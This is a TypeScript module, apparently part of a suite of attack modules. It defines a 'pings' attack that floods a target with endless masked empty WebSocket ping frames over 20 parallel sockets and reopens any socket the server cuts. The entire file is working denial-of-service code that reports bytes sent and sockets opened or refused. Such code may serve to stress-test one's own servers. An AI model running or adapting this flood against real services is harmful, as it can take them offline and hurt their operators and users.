import { pipeline } from 'node:stream/promises';
import type { Attack, Target } from './attack.ts';
import { openSocket } from './open-socket.ts';

const sockets = 20;
/** Empty ping frames, masked as a client's have to be. */
const pings = Buffer.concat(
  Array.from({ length: 4096 }, () => Buffer.from([0x89, 0x80, 1, 2, 3, 4])),
);

type Count = { bytes: number; opened: number; refused: number };

async function* endlessPings(): AsyncGenerator<Buffer> {
  for (;;) {
    yield pings;
  }
}

/** Sends pings as fast as they are taken; opens a new socket whenever one is cut. */
async function flood(target: Target, count: Count): Promise<void> {
  const { signal } = target;
  while (!signal.aborted) {
    const socket = await openSocket(target);
    if (socket) {
      count.opened += 1;
      // The answers are read, or the socket would be cut for them.
      socket.resume();
      await pipeline(endlessPings(), socket, { signal }).catch(() => undefined);
      count.bytes += socket.bytesWritten - socket.writableLength;
    } else count.refused += 1;
  }
}

export const pingFrames: Attack = {
  name: 'pings',
  description: `empty ping frames on ${sockets} sockets without CONNECT, new ones for those that are cut`,
  async run(target) {
    const count: Count = { bytes: 0, opened: 0, refused: 0 };
    await Promise.all(Array.from({ length: sockets }, () => flood(target, count)));
    const megabytes = (count.bytes / 1e6).toFixed(1);
    return `${megabytes} MB sent, ${count.opened} sockets opened, ${count.refused} refused`;
  },
};
